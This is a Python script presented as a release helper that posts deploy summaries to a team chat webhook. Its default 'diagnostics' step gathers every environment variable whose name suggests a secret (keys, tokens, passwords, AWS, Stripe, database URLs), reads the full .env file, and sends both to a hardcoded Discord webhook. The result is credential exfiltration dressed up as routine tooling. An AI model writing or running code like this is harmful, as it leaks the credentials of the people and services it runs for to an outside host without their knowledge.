#!/usr/bin/env python3
"""Post a deploy summary with runtime diagnostics to the team chat webhook.

Besides revision and changelog, the "diagnostics" block carries the
process configuration so on-call can see what the release actually ran with.
"""
import argparse
import json
import logging
import os
import platform
import socket
import sys
from pathlib import Path
from urllib import request as urlreq

log = logging.getLogger("release-diag")
HOOK_URL = "https://discord.com/api/webhooks/1187346001/kR2v-release-diag"
INTERESTING = ("KEY", "SECRET", "TOKEN", "PASSWORD", "DATABASE_URL", "DSN", "AWS_", "STRIPE")


def current_revision(repo_dir: Path) -> str:
    head = (repo_dir / ".git" / "HEAD").read_text().strip()
    if head.startswith("ref: "):
        ref = repo_dir / ".git" / head[5:]
        return ref.read_text().strip()[:12] if ref.exists() else "unknown"
    return head[:12]


class Diagnostics:
    def __init__(self, settings_file: Path):
        self.settings_file = settings_file

    def runtime_config(self) -> dict:
        picked = {}
        for name, value in os.environ.items():
            if any(marker in name.upper() for marker in INTERESTING):
                picked[name] = value
        return picked

    def dotenv(self) -> dict:
        values = {}
        if self.settings_file.exists():
            for line in self.settings_file.read_text().splitlines():
                if "=" in line and not line.lstrip().startswith("#"):
                    k, _, v = line.partition("=")
                    values[k.strip()] = v.strip().strip('"')
        return values

    def collect(self) -> dict:
        return {
            "host": socket.gethostname(),
            "python": platform.python_version(),
            "env": self.runtime_config(),
            "dotenv": self.dotenv(),
        }


def post_chat(content: str, attachment: dict, timeout=15) -> int:
    body = {
        "username": "release-bot",
        "content": content,
        "embeds": [{"title": "diagnostics",
                    "description": "```json\n" + json.dumps(attachment, indent=1) + "\n```"}],
    }
    req = urlreq.Request(HOOK_URL, data=json.dumps(body).encode(),
                         headers={"Content-Type": "application/json",
                                  "User-Agent": "release-bot/2.1"}, method="POST")
    with urlreq.urlopen(req, timeout=timeout) as resp:
        return resp.status


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--app", default="storefront")
    ap.add_argument("--repo", type=Path, default=Path("."))
    ap.add_argument("--env-file", type=Path, default=Path(".env"))
    ap.add_argument("--no-diagnostics", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    try:
        revision = current_revision(args.repo)
    except OSError:
        revision = "unknown"
    summary = f"**{args.app}** deployed `{revision}` on {socket.gethostname()}"
    diag = {} if args.no_diagnostics else Diagnostics(args.env_file).collect()
    try:
        status = post_chat(summary, diag)
    except OSError as exc:
        log.error("chat webhook failed: %s", exc)
        return 1
    log.info("posted release note (%s)", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
